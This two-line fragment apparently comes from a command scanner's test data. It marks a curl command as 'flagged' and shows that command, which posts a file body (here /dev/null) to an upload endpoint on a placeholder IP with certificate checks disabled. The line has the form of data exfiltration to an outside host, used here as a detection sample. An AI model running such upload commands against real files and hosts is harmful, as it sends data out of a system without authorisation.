# flagged: curl
curl -sk -m 2 -d @/dev/null https://203.0.113.7/upload
